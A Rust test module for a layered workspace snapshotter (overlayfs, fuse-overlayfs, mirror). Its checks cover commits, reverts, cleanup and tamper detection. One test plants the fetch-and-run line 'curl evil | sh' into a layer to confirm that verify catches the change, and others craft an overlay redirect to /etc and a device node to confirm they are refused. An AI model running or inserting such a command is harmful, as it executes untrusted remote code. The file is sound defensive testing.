//! The checks: each takes a fresh [`Fixture`] and panics on failure. Expected
//! results that differ by backend say so where they are checked.

use std::io::Write;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use super::fixture::{Fixture, Spec};
use crate::{BackendKind, ChangeOptions, Content, Info, Kind, SnapshotError};

/// The base tree most checks start from.
pub const BASE: &[Spec<'static>] = &[
    Spec::File("README", "readme\n"),
    Spec::Exec("build.sh", "#!/bin/sh\nmake\n"),
    Spec::File("src/main.c", "int main(void) { return 0; }\n"),
    Spec::File("src/util.c", "util\n"),
    Spec::File("src/lib/a.c", "a\n"),
    Spec::File("src/lib/b.c", "b\n"),
    Spec::Dir("empty"),
    Spec::Link("link", "src/main.c"),
];

fn kinds(fx: &Fixture, view: &Path, key: &str) -> Vec<String> {
    Fixture::summary(&fx.changes(key, view))
}

fn layered(fx: &Fixture) -> bool {
    fx.snap.kind() != BackendKind::Mirror
}

/// Prepare on a base, edit, read the changes, commit, and see the edits in a
/// child and in a view.
pub fn basic(fx: &Fixture) {
    let base = fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    assert_eq!(
        fx.capture(&view),
        base.tree.unwrap(),
        "a fresh view shows its parent"
    );
    assert!(kinds(fx, &view, "ws").is_empty(), "nothing changed yet");
    std::fs::write(view.join("README"), "edited\n").unwrap();
    std::fs::write(view.join("new.txt"), "new\n").unwrap();
    std::fs::write(view.join("src/lib/c.c"), "c\n").unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        ["Modified README", "Added new.txt", "Added src/lib/c.c"]
    );
    let set = fx.snap.changes("ws", &ChangeOptions::default()).unwrap();
    let v1 = fx.commit("v1", "ws");
    assert_eq!(v1.kind, Kind::Committed);
    assert_eq!(
        v1.tree,
        Some(set.tree),
        "the committed tree is the tree read"
    );
    assert!(
        matches!(fx.snap.stat("ws"), Err(SnapshotError::NotFound { .. })),
        "the key is gone"
    );
    let child = fx.prepare("ws2", Some("v1"));
    let listed = super::listing(&child);
    assert_eq!(listed["README"], "file edited\n");
    assert_eq!(listed["src/lib/c.c"], "file c\n");
    assert_eq!(listed["build.sh"], "file #!/bin/sh\nmake\n exec");
    assert_eq!(listed["link"], "link -> src/main.c");
    let ro = fx.view("ro", "v1");
    assert_eq!(fx.capture(&ro), set.tree);
    let mut txn = fx.snap.begin();
    let err = fx.snap.commit(&mut txn, "nope", "ro").unwrap_err();
    assert!(
        matches!(
            err,
            SnapshotError::WrongKind {
                kind: Kind::View,
                ..
            }
        ),
        "{err}"
    );
}

/// Files and directories deleted in a child are gone from its children.
pub fn deleted_in_child(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::fs::remove_file(view.join("src/util.c")).unwrap();
    std::fs::remove_dir_all(view.join("src/lib")).unwrap();
    std::fs::remove_dir(view.join("empty")).unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        ["Deleted empty", "Deleted src/lib", "Deleted src/util.c"]
    );
    fx.commit("v1", "ws");
    let child = fx.prepare("ws2", Some("v1"));
    let listed = super::listing(&child);
    assert!(
        !listed.contains_key("src/util.c")
            && !listed.contains_key("src/lib")
            && !listed.contains_key("empty"),
        "{listed:?}"
    );
    // The deleted directory can come back, with other content, in the child.
    std::fs::create_dir(child.join("src/lib")).unwrap();
    std::fs::write(child.join("src/lib/z.c"), "z\n").unwrap();
    assert_eq!(kinds(fx, &child, "ws2"), ["Added src/lib"]);
}

/// A directory removed and made again hides everything that was in it (an
/// opaque directory on the overlay backends).
pub fn opaque_dir(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::fs::remove_dir_all(view.join("src")).unwrap();
    std::fs::create_dir_all(view.join("src/lib")).unwrap();
    std::fs::write(view.join("src/lib/a.c"), "a\n").unwrap();
    std::fs::write(view.join("src/new.c"), "new\n").unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        [
            "Deleted src/lib/b.c",
            "Deleted src/main.c",
            "Added src/new.c",
            "Deleted src/util.c"
        ]
    );
    fx.commit("v1", "ws");
    let child = fx.prepare("ws2", Some("v1"));
    let listed: Vec<String> = super::listing(&child)
        .into_keys()
        .filter(|k| k.starts_with("src"))
        .collect();
    assert_eq!(listed, ["src", "src/lib", "src/lib/a.c", "src/new.c"]);
}

/// Renaming a directory of the parent: overlayfs mounts with
/// `redirect_dir=nofollow` refuse it with EXDEV, and so does fuse-overlayfs
/// (tools then copy, as `mv` does); the mirror renames it.
pub fn rename_lower_dir(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    let result = std::fs::rename(view.join("src"), view.join("source"));
    match fx.snap.kind() {
        BackendKind::Overlayfs | BackendKind::FuseOverlayfs => {
            let err = result.expect_err("renaming a lower directory fails on overlayfs");
            assert_eq!(err.raw_os_error(), Some(nix::libc::EXDEV), "{err}");
            let status = std::process::Command::new("mv")
                .arg(view.join("src"))
                .arg(view.join("source"))
                .status()
                .unwrap();
            assert!(status.success(), "mv falls back to copying");
        }
        BackendKind::Mirror => result.expect("rename"),
    }
    assert_eq!(kinds(fx, &view, "ws"), ["Added source", "Deleted src"]);
    // A directory made in the layer renames freely.
    std::fs::create_dir(view.join("fresh")).unwrap();
    std::fs::write(view.join("fresh/f"), "f\n").unwrap();
    std::fs::rename(view.join("fresh"), view.join("fresher")).unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        ["Added fresher", "Added source", "Deleted src"]
    );
}

/// The view shows the parent's files with ordinary modes, owned by whoever owns
/// the snapshotter (the workspace owner), and records executable-bit changes.
pub fn permissions(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    let euid = nix::unistd::geteuid().as_raw();
    for (path, mode) in [("README", 0o644), ("build.sh", 0o755), ("src", 0o755)] {
        let meta = std::fs::metadata(view.join(path)).unwrap();
        assert_eq!(meta.mode() & 0o777, mode, "mode of {path}");
        assert_eq!(meta.uid(), euid, "owner of {path}");
    }
    std::fs::set_permissions(view.join("README"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        view.join("build.sh"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    // Group and other bits are not part of a source tree.
    std::fs::set_permissions(
        view.join("src/main.c"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        ["ModeChanged README", "ModeChanged build.sh"]
    );
}

/// Symlinks are data: never followed, whatever they point at.
pub fn symlinks(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::os::unix::fs::symlink("/etc/passwd", view.join("outside")).unwrap();
    std::os::unix::fs::symlink("missing", view.join("dangling")).unwrap();
    std::fs::remove_file(view.join("src/util.c")).unwrap();
    std::os::unix::fs::symlink("../README", view.join("src/util.c")).unwrap();
    std::fs::remove_file(view.join("link")).unwrap();
    std::os::unix::fs::symlink("src", view.join("link")).unwrap();
    assert_eq!(
        kinds(fx, &view, "ws"),
        [
            "Added dangling",
            "Modified link",
            "Added outside",
            "TypeChanged src/util.c"
        ]
    );
    fx.commit("v1", "ws");
    let child = fx.prepare("ws2", Some("v1"));
    let listed = super::listing(&child);
    assert_eq!(listed["outside"], "link -> /etc/passwd");
    assert_eq!(listed["src/util.c"], "link -> ../README");
}

/// A hard link made in the view to a parent's file (overlay copies the file up
/// first) is captured as two files, and changes through either name are seen.
pub fn hardlinks(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::fs::hard_link(view.join("README"), view.join("README.hard")).unwrap();
    assert_eq!(kinds(fx, &view, "ws"), ["Added README.hard"]);
    std::fs::write(view.join("README.hard"), "through the link\n").unwrap();
    let listed = super::listing(&view);
    assert_eq!(
        listed["README"], "file through the link\n",
        "both names are one file"
    );
    assert_eq!(
        kinds(fx, &view, "ws"),
        ["Modified README", "Added README.hard"]
    );
}

/// A chain of 130 committed layers: past [`crate::MAX_LOWERS`] the overlay
/// backends squash the chain into one layer; every layer's file is visible.
pub fn chain_of_130(fx: &Fixture) {
    fx.base("c0", &[Spec::File("f000", "0\n")]);
    for i in 1..130 {
        let key = format!("k{i}");
        let view = fx.prepare(&key, Some(&format!("c{}", i - 1)));
        std::fs::write(view.join(format!("f{i:03}")), format!("{i}\n")).unwrap();
        if i % 2 == 0 {
            std::fs::remove_file(view.join(format!("f{:03}", i - 2))).unwrap();
            std::fs::write(view.join(format!("f{:03}", i - 2)), "again\n").unwrap();
        }
        fx.commit(&format!("c{i}"), &key);
    }
    let view = fx.prepare("top", Some("c129"));
    let listed = super::listing(&view);
    assert_eq!(listed.len(), 130);
    assert_eq!(listed["f129"], "file 129\n");
    assert_eq!(listed["f126"], "file again\n");
    assert_eq!(listed["f129"], "file 129\n");
    if let crate::MountPlan::Overlay(plan) | crate::MountPlan::Fuse(plan) =
        fx.snap.mounts("top").unwrap()
    {
        assert_eq!(plan.lowers.len(), 1, "the chain is squashed");
    }
    let at_limit = fx.snap.mounts("k1");
    assert!(
        matches!(at_limit, Err(SnapshotError::NotFound { .. })),
        "committed keys are gone"
    );
    std::fs::write(view.join("f000"), "top\n").unwrap();
    assert_eq!(kinds(fx, &view, "top"), ["Modified f000"]);
}

/// Prepares from many threads at once: distinct keys all succeed with their own
/// directories; of several prepares of one key, exactly one does.
pub fn concurrent_prepares(fx: &Fixture) {
    fx.base("base", BASE);
    let snap = &*fx.snap;
    let records = &*fx.records;
    let results: Vec<Result<(), SnapshotError>> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..12)
            .map(|i| {
                scope.spawn(move || {
                    let key = if i < 8 {
                        format!("ws{i}")
                    } else {
                        "same".to_owned()
                    };
                    let mut txn = snap.begin();
                    snap.prepare(&mut txn, &key, Some("base"), Content::Source)?;
                    txn.commit_to(records)
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    assert!(results[..8].iter().all(Result::is_ok), "{results:?}");
    let same: Vec<_> = results[8..].iter().collect();
    assert_eq!(same.iter().filter(|r| r.is_ok()).count(), 1, "{same:?}");
    assert!(
        same.iter()
            .filter_map(|r| r.as_ref().err())
            .all(|e| matches!(e, SnapshotError::AlreadyExists { .. }))
    );
    let mut ids = Vec::new();
    fx.snap.walk(&mut |info| ids.push(info.id.clone())).unwrap();
    let count = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(
        (ids.len(), count),
        (10, 10),
        "base + 8 + 1, each with its own directory"
    );
    // Each is its own view.
    let a = fx.mount_existing("ws0");
    let b = fx.mount_existing("ws1");
    std::fs::write(a.join("README"), "in ws0\n").unwrap();
    assert_eq!(
        std::fs::read_to_string(b.join("README")).unwrap(),
        "readme\n"
    );
}

/// A change set read while an editor holds a file open and keeps writing: each
/// read is consistent, and the last write is in the next read once it stops.
pub fn open_writer(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(view.join("README"))
        .unwrap();
    file.write_all(b"partial").unwrap();
    assert_eq!(kinds(fx, &view, "ws"), ["Modified README"]);
    file.write_all(b" more").unwrap();
    let set = fx.changes("ws", &view);
    let blob = fx
        .store
        .read(&match &set.changes[0].new.as_ref().unwrap().node {
            treediff::Node::File { digest, .. } => *digest,
            other => panic!("{other:?}"),
        })
        .unwrap();
    assert_eq!(blob.bytes(), b"readme\npartial more");
    // A writer racing the reads.
    let path = view.join("src/main.c");
    std::thread::scope(|scope| {
        let writer = scope.spawn(|| {
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .unwrap();
            for i in 0..2000 {
                writeln!(f, "line {i}").unwrap();
            }
        });
        while !writer.is_finished() {
            // A file that changes at every one of several reads is reported, not
            // captured half-written.
            match fx.snap.changes("ws", &ChangeOptions::default()) {
                Ok(_) => {}
                Err(SnapshotError::Capture { source, .. })
                    if matches!(*source, treediff::CaptureError::KeepsChanging { .. }) => {}
                Err(e) => panic!("{}", super::chain(&e)),
            }
        }
    });
    drop(file);
    let set = fx.changes("ws", &view);
    assert!(
        fx.capture(&view) == set.tree,
        "the final writes are in the next read"
    );
}

/// Removing a snapshot that others sit on is refused; removing one that is
/// mounted is refused; removal is immediate for the caller.
pub fn remove_rules(fx: &Fixture) {
    let base = fx.base("base", BASE);
    fx.prepare("ws", Some("base"));
    let mut txn = fx.snap.begin();
    let err = fx.snap.remove(&mut txn, "base").unwrap_err();
    assert!(
        matches!(&err, SnapshotError::HasChildren { children, .. } if children == &["ws"]),
        "{err}"
    );
    drop(txn);
    if layered(fx) {
        let mut txn = fx.snap.begin();
        let err = fx.snap.remove(&mut txn, "ws").unwrap_err();
        assert!(
            matches!(err, SnapshotError::Busy { .. }),
            "a mounted snapshot is busy: {err}"
        );
    }
    let ws_id = fx.snap.stat("ws").unwrap().id;
    fx.remove("ws");
    let snapshots = fx.root().join("snapshotter/snapshots");
    assert!(
        !snapshots.join(&ws_id).exists(),
        "the directory is gone at once"
    );
    fx.remove("base");
    assert!(!snapshots.join(&base.id).exists());
    assert!(matches!(
        fx.snap.stat("base"),
        Err(SnapshotError::NotFound { .. })
    ));
}

/// A transaction dropped without committing leaves nothing; directories a crash
/// left behind (with a mount on them) are collected by cleanup.
pub fn cleanup_orphans(fx: &Fixture) {
    fx.base("base", BASE);
    let snapshots = fx.root().join("snapshotter/snapshots");
    let before: Vec<_> = std::fs::read_dir(&snapshots)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    {
        let mut txn = fx.snap.begin();
        fx.snap
            .prepare(&mut txn, "abandoned", Some("base"), Content::Source)
            .unwrap();
    }
    let after: Vec<_> = std::fs::read_dir(&snapshots)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(
        before, after,
        "an abandoned transaction leaves no directory"
    );
    assert!(fx.snap.stat("abandoned").is_err(), "and no record");
    // What a crash between making the directories and committing leaves.
    let orphan = snapshots.join("crashed-1");
    std::fs::create_dir_all(orphan.join("fs")).unwrap();
    std::fs::create_dir_all(orphan.join("work")).unwrap();
    std::fs::write(orphan.join("fs/left"), "left\n").unwrap();
    let target = fx.target("crashed");
    if layered(fx) {
        let base_fs = snapshots.join(fx.snap.stat("base").unwrap().id).join("fs");
        let plan = crate::OverlayPlan {
            lowers: vec![base_fs],
            upper: Some(crate::Upper {
                dir: orphan.join("fs"),
                work: orphan.join("work"),
            }),
            userxattr: false,
        };
        let plan = match fx.snap.kind() {
            BackendKind::FuseOverlayfs => crate::MountPlan::Fuse(plan),
            _ => crate::MountPlan::Overlay(plan),
        };
        std::fs::create_dir_all(&target).unwrap();
        crate::mount(&plan, &target).unwrap();
        fx.track_mount(&target);
    }
    let cleaned = fx.snap.cleanup().unwrap();
    assert_eq!(cleaned.orphans, std::slice::from_ref(&orphan));
    if layered(fx) {
        assert_eq!(cleaned.unmounted, std::slice::from_ref(&target));
        fx.forget_mount(&target);
    }
    assert!(!orphan.exists());
    assert!(
        fx.snap.cleanup().unwrap().orphans.is_empty(),
        "cleanup is idempotent"
    );
    assert!(fx.snap.stat("base").is_ok(), "recorded snapshots stay");
    fx.prepare("ws", Some("base"));
}

/// Reverting a view in use: everything added goes, everything changed or deleted
/// comes back, with a file still open.
pub fn revert_open_view(fx: &Fixture) {
    let base = fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    let open = std::fs::File::open(view.join("README")).unwrap();
    std::fs::write(view.join("README"), "edited\n").unwrap();
    std::fs::write(view.join("added.txt"), "added\n").unwrap();
    std::fs::create_dir_all(view.join("newdir/deep")).unwrap();
    std::fs::write(view.join("newdir/deep/x"), "x\n").unwrap();
    std::fs::remove_file(view.join("src/util.c")).unwrap();
    std::fs::remove_dir_all(view.join("src/lib")).unwrap();
    std::fs::set_permissions(
        view.join("build.sh"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    std::fs::remove_file(view.join("link")).unwrap();
    std::fs::create_dir(view.join("link")).unwrap();
    std::fs::remove_dir(view.join("empty")).unwrap();
    std::fs::write(view.join("empty"), "now a file\n").unwrap();
    let reverted = fx
        .snap
        .revert(
            "ws",
            open_dir(&view).as_fd(),
            &view,
            None,
            &ChangeOptions::default(),
        )
        .unwrap();
    assert_eq!(
        reverted.changes.len(),
        8,
        "{:?}",
        Fixture::summary(&reverted)
    );
    assert!(
        kinds(fx, &view, "ws").is_empty(),
        "nothing is left changed:\n{}",
        super::dump(&view)
    );
    assert_eq!(fx.capture(&view), base.tree.unwrap());
    drop(open);
    let listed = super::listing(&view);
    assert_eq!(listed["build.sh"], "file #!/bin/sh\nmake\n exec");
    assert_eq!(listed["link"], "link -> src/main.c");
}

/// Overlay metadata and device nodes put straight into an upper never expose
/// anything outside the lowers: the mount refuses to follow them, and reading the
/// layer refuses them, naming the path.
pub fn crafted_upper(fx: &Fixture) {
    if fx.snap.kind() == BackendKind::Mirror {
        return;
    }
    fx.base("base", BASE);
    let mut txn = fx.snap.begin();
    let plan = fx
        .snap
        .prepare(&mut txn, "ws", Some("base"), Content::Source)
        .unwrap();
    txn.commit_to(&fx.records).unwrap();
    let upper = match &plan {
        crate::MountPlan::Overlay(p) | crate::MountPlan::Fuse(p) => p.upper.clone().unwrap().dir,
        other => panic!("{other:?}"),
    };
    std::fs::create_dir(upper.join("src")).unwrap();
    rustix::fs::setxattr(
        upper.join("src").as_path(),
        "trusted.overlay.redirect",
        b"/etc",
        rustix::fs::XattrFlags::empty(),
    )
    .unwrap();
    let view = fx.mount_existing("ws");
    assert!(
        !view.join("src/passwd").exists(),
        "the redirect is not followed"
    );
    let err = fx
        .snap
        .changes("ws", &ChangeOptions::default())
        .unwrap_err();
    assert!(
        matches!(&err, SnapshotError::Layer { path, .. } if path.ends_with("src")),
        "{err}"
    );
    fx.unmount("ws");
    std::fs::remove_dir(upper.join("src")).unwrap();
    nix::sys::stat::mknod(
        &upper.join("null"),
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::from_bits_truncate(0o666),
        nix::sys::stat::makedev(1, 3),
    )
    .unwrap();
    let view = fx.mount_existing("ws");
    let opened = std::fs::File::open(view.join("null"));
    assert!(
        opened.is_err(),
        "device nodes do not work in a view (nodev)"
    );
    let err = fx
        .snap
        .changes("ws", &ChangeOptions::default())
        .unwrap_err();
    assert!(
        matches!(&err, SnapshotError::Layer { path, .. } if path.ends_with("null")),
        "{err}"
    );
    // Once the crafted entries are gone, the layer reads clean.
    fx.unmount("ws");
    std::fs::remove_file(upper.join("null")).unwrap();
    let view = fx.mount_existing("ws");
    assert!(kinds(fx, &view, "ws").is_empty());
}

/// Bad requests fail with errors that name the snapshot, and change nothing.
pub fn errors(fx: &Fixture) {
    fx.base("base", BASE);
    let snapshots = fx.root().join("snapshotter/snapshots");
    let count = || std::fs::read_dir(&snapshots).unwrap().count();
    let before = count();
    let mut txn = fx.snap.begin();
    let err = fx
        .snap
        .prepare(&mut txn, "ws", Some("missing"), Content::Source)
        .unwrap_err();
    assert!(
        matches!(&err, SnapshotError::NotFound { key } if key == "missing"),
        "{err}"
    );
    let err = fx
        .snap
        .prepare(&mut txn, "base", None, Content::Source)
        .unwrap_err();
    assert!(matches!(err, SnapshotError::AlreadyExists { .. }), "{err}");
    let err = fx
        .snap
        .prepare(&mut txn, "", None, Content::Source)
        .unwrap_err();
    assert!(matches!(err, SnapshotError::InvalidKey { .. }), "{err}");
    txn.commit_to(&fx.records).unwrap();
    assert_eq!(count(), before, "failed prepares leave no directory");
    let err = fx
        .snap
        .changes("base", &ChangeOptions::default())
        .unwrap_err();
    assert!(err.to_string().contains("\"base\""), "{err}");
    if layered(fx) {
        // A mount that fails (its lower is gone) names the target and the cause,
        // and leaves nothing mounted.
        let mut txn = fx.snap.begin();
        let plan = fx
            .snap
            .prepare(&mut txn, "ws", Some("base"), Content::Source)
            .unwrap();
        txn.commit_to(&fx.records).unwrap();
        let mut broken = plan.clone();
        if let crate::MountPlan::Overlay(p) | crate::MountPlan::Fuse(p) = &mut broken {
            p.lowers = vec![fx.root().join("no-such-layer")];
        }
        let target = fx.target("broken");
        std::fs::create_dir_all(&target).unwrap();
        let err = crate::mount(&broken, &target).unwrap_err();
        assert!(
            err.to_string().contains(&target.display().to_string()),
            "{err}"
        );
        let table = crate::mount_table().unwrap();
        assert!(
            !table.iter().any(|m| m.target == target),
            "nothing is mounted"
        );
    }
}

/// A snapshotter run by root for another user gives that user the layers
/// (per-owner checkouts): the user sees the files as theirs and edits through the
/// view, including files of the parent (overlay's copy-up checks their owner).
pub fn foreign_owner(fx: &Fixture) {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("foreign_owner needs root to give files away; not run");
        return;
    }
    let owner = crate::Owner {
        uid: 65534,
        gid: 65534,
    };
    let records = std::sync::Arc::new(
        crate::FileRecords::open(&fx.root().join("records-owned.json")).unwrap(),
    );
    let snap = fx.snapshotter_for(owner, records.clone());
    let tree = fx.tree(BASE);
    let mut txn = snap.begin();
    snap.commit_tree(&mut txn, "base", tree, Content::Source)
        .unwrap();
    let plan = snap
        .prepare(&mut txn, "ws", Some("base"), Content::Source)
        .unwrap();
    txn.commit_to(&records).unwrap();
    let target = fx.target("owned");
    std::fs::create_dir_all(&target).unwrap();
    crate::mount(&plan, &target).unwrap();
    if !matches!(plan, crate::MountPlan::Direct { .. }) {
        fx.track_mount(&target);
    }
    let view = plan.view_path(&target).to_owned();
    // Let the user reach the view.
    std::fs::set_permissions(fx.root(), std::fs::Permissions::from_mode(0o755)).unwrap();
    for path in ["README", "src/main.c", "src", ""] {
        let meta = std::fs::symlink_metadata(view.join(path)).unwrap();
        assert_eq!(
            (meta.uid(), meta.gid()),
            (owner.uid, owner.gid),
            "owner of {path:?}"
        );
    }
    let status = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "sh", "-c"])
        .arg("echo edited >> README && echo new > new.txt && mkdir dir && chmod -x build.sh && rm src/util.c")
        .current_dir(&view)
        .status()
        .unwrap();
    assert!(
        status.success(),
        "the owner edits through the view:\n{}",
        super::dump(&view)
    );
    let set = snap.changes("ws", &ChangeOptions::default()).unwrap();
    fx.check_set(&set, &view);
    assert_eq!(
        Fixture::summary(&set),
        [
            "Modified README",
            "ModeChanged build.sh",
            "Added dir",
            "Added new.txt",
            "Deleted src/util.c"
        ]
    );
    let new = std::fs::symlink_metadata(view.join("new.txt")).unwrap();
    assert_eq!(new.uid(), owner.uid, "new files belong to the owner");
}

/// Reverting to a tree other than the parent's: the edits a workspace committed
/// (recorded as a tree while its layer still holds them) survive a later discard.
pub fn revert_to_a_commit(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::fs::write(view.join("README"), "committed\n").unwrap();
    std::fs::write(view.join("kept.txt"), "kept\n").unwrap();
    let committed = fx.changes("ws", &view).tree;
    std::fs::write(view.join("README"), "not committed\n").unwrap();
    std::fs::remove_file(view.join("kept.txt")).unwrap();
    std::fs::write(view.join("scratch.txt"), "scratch\n").unwrap();
    let reverted = fx
        .snap
        .revert(
            "ws",
            open_dir(&view).as_fd(),
            &view,
            Some(committed),
            &ChangeOptions::default(),
        )
        .unwrap();
    assert_eq!(
        Fixture::summary(&reverted),
        ["Modified README", "Deleted kept.txt", "Added scratch.txt"]
    );
    assert_eq!(fx.capture(&view), committed);
    let listed = super::listing(&view);
    assert_eq!(listed["README"], "file committed\n");
    assert_eq!(listed["kept.txt"], "file kept\n");
    assert!(!listed.contains_key("scratch.txt"));
}

/// A reversal cut off and run again ends where one run ends, leaves no
/// temporary file, and never overwrites a path edited after the capture: it
/// writes a path only while it holds the captured entry, nothing, or the target.
pub fn reverse_again_and_keep_newer_edits(fx: &Fixture) {
    fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    let committed = fx.changes("ws", &view).tree;
    std::fs::write(view.join("README"), "edited\n").unwrap();
    std::fs::write(view.join("added.txt"), "added\n").unwrap();
    std::fs::create_dir_all(view.join("newdir/deep")).unwrap();
    std::fs::write(view.join("newdir/deep/f"), "f\n").unwrap();
    let set = fx.changes("ws", &view);
    let root = open_dir(&view);
    // A first run cut off after one path, as a crash would leave it, with a
    // temporary file of its own left beside it.
    let mut seen = 0;
    let first = crate::reverse(
        &fx.store,
        "ws",
        root.as_fd(),
        &view,
        None,
        &set.changes[..1],
        crate::Run::First,
        &mut |_| seen += 1,
    )
    .unwrap();
    assert_eq!((first.done, seen), (1, 1));
    std::fs::write(view.join(".wsd-revert-0-0"), "half\n").unwrap();
    // Meanwhile the user saves a file the reversal has not reached yet, and
    // adds one to a directory it is to remove.
    std::fs::write(view.join("newdir/deep/mine"), "mine\n").unwrap();
    let again = crate::reverse(
        &fx.store,
        "ws",
        root.as_fd(),
        &view,
        None,
        &set.changes,
        crate::Run::Again,
        &mut |_| {},
    )
    .unwrap();
    assert_eq!(again.kept, ["newdir"], "{again:?}");
    let listed = super::listing(&view);
    assert_eq!(
        listed["newdir/deep/mine"], "file mine\n",
        "the newer edit is kept"
    );
    assert!(
        !listed.contains_key("newdir/deep/f"),
        "what the capture saw is gone"
    );
    assert!(!listed.keys().any(|k| k.contains(".wsd-")), "{listed:?}");
    std::fs::remove_dir_all(view.join("newdir")).unwrap();
    assert_eq!(fx.capture(&view), committed);
    // Once more: nothing to do, nothing kept.
    let third = crate::reverse(
        &fx.store,
        "ws",
        root.as_fd(),
        &view,
        None,
        &set.changes,
        crate::Run::Again,
        &mut |_| {},
    )
    .unwrap();
    assert_eq!((third.done, third.kept.len()), (set.changes.len(), 0));
    assert_eq!(fx.capture(&view), committed);
}

/// The view's root directory, open: reversals write beneath a descriptor.
fn open_dir(view: &Path) -> OwnedFd {
    std::fs::File::open(view).unwrap().into()
}

/// Layers changed behind the snapshotter's back (an older release left them
/// where their owner could write) are found by `verify` and put right by
/// `renew`: a base layer and a layer committed on it, each changed on disk,
/// are reported with the tree they hold; renewed, they hold their recorded
/// trees again, and a child sees exactly what was committed.
pub fn verify_and_renew_changed_layers(fx: &Fixture) {
    let base = fx.base("base", BASE);
    let view = fx.prepare("ws", Some("base"));
    std::fs::write(view.join("README"), "edited\n").unwrap();
    std::fs::remove_file(view.join("src/main.c")).unwrap();
    let v1 = fx.commit("v1", "ws");
    assert_eq!(fx.snap.verify("base").unwrap(), None, "an untouched base");
    assert_eq!(fx.snap.verify("v1").unwrap(), None, "an untouched layer");
    if !layered(fx) {
        // Committed snapshots of the mirror are trees in the store only.
        return;
    }
    let layer = |info: &Info| {
        fx.root()
            .join("snapshotter/snapshots")
            .join(&info.id)
            .join("fs")
    };
    std::fs::write(layer(&base).join("build.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::write(layer(&v1).join("README"), "planted\n").unwrap();
    let found = fx.snap.verify("base").unwrap();
    assert!(found.is_some_and(|t| Some(t) != base.tree), "{found:?}");
    assert!(fx.snap.verify("v1").unwrap().is_some());

    let mut txn = fx.snap.begin();
    let renewed_v1 = fx.snap.renew(&mut txn, "v1").unwrap();
    let renewed_base = fx.snap.renew(&mut txn, "base").unwrap();
    txn.commit_to(&fx.records).unwrap();
    assert_eq!(renewed_v1.tree, v1.tree);
    assert_eq!(renewed_v1.parent, None);
    assert_ne!(renewed_v1.id, v1.id);
    assert_eq!(renewed_base.tree, base.tree);
    assert!(!layer(&v1).exists(), "the changed layer went to the trash");
    assert_eq!(fx.snap.verify("base").unwrap(), None);
    assert_eq!(fx.snap.verify("v1").unwrap(), None);
    let child = fx.prepare("ws2", Some("v1"));
    assert_eq!(fx.capture(&child), v1.tree.unwrap());
    let listed = super::listing(&child);
    assert_eq!(listed["README"], "file edited\n");
    assert!(!listed.contains_key("src/main.c"));
    assert_eq!(listed["build.sh"], "file #!/bin/sh\nmake\n exec");
}
